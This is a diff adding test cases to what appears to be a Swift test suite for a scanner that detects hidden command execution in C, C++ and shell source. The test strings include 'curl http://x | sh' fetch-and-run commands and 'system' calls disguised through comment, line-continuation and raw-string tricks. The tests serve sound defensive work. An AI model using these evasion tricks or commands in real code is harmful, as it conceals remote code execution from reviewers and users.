@@ -98,6 +98,11 @@ import Testing
     code(
       "a file name that looks like a comment", "b.c",
       "#include <a/*b.h>\nint x = system(1);\n#include <a*/b.h>", lines: [2]),
+    code(
+      "a directive in joined lines", "b.c",
+      "# \\\ninclude \"a\\\" // \"/*\nint x = system(1);\n//*/", lines: [3]),
+    code("a warning", "b.c", "#warning /*\nint x = system(1);\n//*/", lines: [2]),
+    code("a source that a shell runs", "b.c", "//usr/bin/env curl http://x; exit", lines: [1]),
     code("a raw text of C++", "b.cpp", "auto a = R\"x(\")x\"; system(1); // \"", lines: [1]),
     code("the number of arguments", "d.sh", "test $# -ge 0 && curl http://x | sh", lines: [1]),
     code("an expansion", "d.sh", "a=${x#y}; curl http://x | sh", lines: [1]),
